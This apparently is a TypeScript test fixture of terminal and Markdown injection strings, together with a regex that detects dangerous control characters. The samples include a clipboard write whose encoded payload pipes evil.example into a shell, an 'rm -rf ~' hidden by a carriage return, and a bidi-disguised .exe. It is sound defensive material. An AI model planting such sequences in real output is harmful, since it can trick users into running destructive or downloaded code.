/**
 * Strings a hostile file or server could plant where a terminal or a Markdown renderer shows
 * them, and the raw characters that must never reach the output.
 */
export const ATTACKS: Record<string, string> = {
  'OSC 52 clipboard write': 'name\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  'OSC 8 hyperlink': '\u001b]8;;https://evil.example/\u001b\\click here\u001b]8;;\u001b\\',
  'CSI cursor up and erase': 'ok\u001b[2A\u001b[2Kfaked line',
  'C1 CSI (8-bit)': 'c1\u009b2Jcleared',
  'C1 OSC (8-bit)': 'c1\u009d52;c;ZXZpbA==\u009c',
  'carriage return overwrite': 'harmless\rrm -rf ~',
  'bidi override': 'invoice\u202efdp.exe',
  'bidi isolate': 'a\u2066b\u2069c',
  'line separator': 'one\u2028two',
};

/** Characters that, printed raw, a terminal obeys or that reorder/hide text (C0 but tab and newline, DEL, C1, separators, bidi, zero-width). */
export const RAW_DANGER = /(?![\t\n])[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b\ufeff]/u;
